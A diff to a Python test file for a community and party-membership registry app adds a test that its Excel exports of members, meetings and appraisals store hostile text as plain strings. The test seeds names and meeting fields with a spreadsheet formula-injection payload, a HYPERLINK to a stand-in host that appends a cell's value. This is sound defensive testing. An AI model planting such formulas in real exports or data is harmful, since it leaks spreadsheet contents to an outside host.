@@ -221,3 +221,33 @@ def test_the_registrys_party_member_tag_is_shown_only_to_party_roles(pw):
     found = client_for(pw.w.c01_worker).get("/api/v1/residents?tag=party_member").json()
     assert found["count"] == 0
     assert client_for(pw.w.c01_leader).get("/api/v1/residents?tag=party_member").json()["count"] == 1
+
+
+def test_exports_write_hostile_text_as_text(pw, tmp_path):
+    from linli.party.export import export_appraisal, export_meetings, export_members
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"详情")'
+    services.member_create(actor=None, organisation=pw.branch, name=hostile, joined_on=date(2001, 7, 1))
+    services.meeting_create(
+        actor=None,
+        organisation=pw.branch,
+        kind="lecture",
+        held_on=date(2026, 11, 2),
+        place=hostile,
+        topic=hostile,
+    )
+    members, meetings, appraisal = tmp_path / "m.xlsx", tmp_path / "g.xlsx", tmp_path / "a.xlsx"
+    export_members(
+        actor=pw.w.c01_leader, target=members, members=PartyMember.objects.visible_to(pw.w.c01_leader)
+    )
+    export_meetings(
+        actor=pw.w.c01_leader,
+        target=meetings,
+        meetings=Meeting.objects.visible_to(pw.w.c01_leader),
+        year=2026,
+    )
+    export_appraisal(actor=pw.w.c01_leader, target=appraisal, organisation=pw.branch, year=2026)
+    for path in (members, meetings, appraisal):
+        cells = [c for row in load_workbook(path).active.iter_rows() for c in row if c.value == hostile]
+        assert cells, path
+        assert all(c.data_type == "s" for c in cells)
